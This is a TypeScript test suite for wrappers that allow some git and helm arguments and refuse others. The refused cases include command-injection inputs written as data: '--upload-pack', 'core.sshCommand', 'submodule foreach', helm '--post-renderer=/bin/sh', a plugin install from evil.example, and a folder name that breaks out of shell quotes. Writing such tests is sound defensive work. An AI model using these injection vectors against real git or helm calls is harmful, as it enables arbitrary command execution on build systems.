import assert from 'node:assert/strict'
import { spawnSync } from 'node:child_process'
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { after, test } from 'node:test'
import { guardedGit, guardedHelm } from '../../../../plugin/argocd/source/guarded-programs.ts'
import { SecretError } from '../../../../plugin/model/secret-error.ts'

const folder = mkdtempSync(path.join(os.tmpdir(), 'guarded programs-'))
after(() => rmSync(folder, { recursive: true }))

/** Prints its words and the variables that helm takes its homes from. */
const tool = script('tool', '#!/bin/sh\nprintf "[%s]" "$@"; printf " %s" "$HELM_DATA_HOME" "$HELM_PLUGINS"\n')
const git = script('git', guardedGit(tool))
const helm = script('helm', guardedHelm(tool, { HELM_DATA_HOME: '/ours', HELM_PLUGINS: '/none' }))

function script(name: string, text: string): string {
  const file = path.join(folder, name)
  writeFileSync(file, text, { mode: 0o755 })
  return file
}

function call(program: string, words: readonly string[]): string | undefined {
  const { status, stdout } = spawnSync(program, words, {
    encoding: 'utf8',
    env: { PATH: '/usr/bin:/bin', HELM_DATA_HOME: '/theirs', HELM_PLUGINS: '/theirs' },
  })
  return status === 0 ? stdout : undefined
}

for (const words of [
  ['init'],
  ['remote', 'add', 'origin', 'https://git.example/a b.git'],
  ['fetch', '--depth=1', 'https://git.example/a.git', 'v1.0'],
  ['checkout', 'FETCH_HEAD'],
  ['submodule', 'update', '--init', '--recursive'],
])
  test(`git ${words.join(' ')} passes`, () => {
    assert.equal(call(git, words)?.split(' /theirs')[0], words.map((word) => `[${word}]`).join(''))
  })

for (const words of [
  [],
  ['init', '--template=/x'],
  ['remote', 'add', 'origin', '--mirror=push'],
  ['fetch', '--depth=1', 'https://git.example/a.git', '--upload-pack=touch x'],
  ['fetch', '--depth=1', '--upload-pack=touch x', 'main'],
  ['fetch', '--depth=1', 'https://git.example/a.git', 'main', '--upload-pack=touch x'],
  ['fetch', 'https://git.example/a.git', 'main'],
  ['checkout', '-f'],
  ['config', 'core.sshCommand', 'touch x'],
  ['-c', 'core.sshCommand=touch x', 'fetch', '--depth=1', 'a', 'b'],
  ['submodule', 'foreach', 'touch', 'x'],
])
  test(`git ${words.join(' ')} is refused`, () => {
    assert.equal(call(git, words), undefined)
  })

for (const words of [
  ['version', '-c', '--short'],
  ['template', 'shop', '/charts/c', '--namespace', 'a', '-f', '/v.yaml', '--include-crds'],
  ['pull', '--untar', '--untardir', '/charts', '--repo', 'https://charts.example', 'c', '--version', '1.0.0'],
])
  test(`helm ${words.join(' ')} passes, with our homes`, () => {
    assert.equal(call(helm, words), `${words.map((word) => `[${word}]`).join('')} /ours /none`)
  })

for (const words of [
  ['template', '--post-renderer=/bin/sh', '/charts/c'],
  ['template', 'shop', '/charts/c', '--post-renderer', '/bin/sh'],
  ['template', 'shop', '/charts/c', '--repository-config=/x'],
  ['template', 'shop', '/charts/c', '--namespace=x'],
  ['plugin', 'install', 'https://evil.example'],
  ['install', 'shop', '/charts/c'],
])
  test(`helm ${words.join(' ')} is refused`, () => {
    assert.equal(call(helm, words), undefined)
  })

test('a folder whose name would leave the quotes is refused', () => {
  assert.throws(() => guardedGit("/a'; touch x; '/git"), SecretError)
})
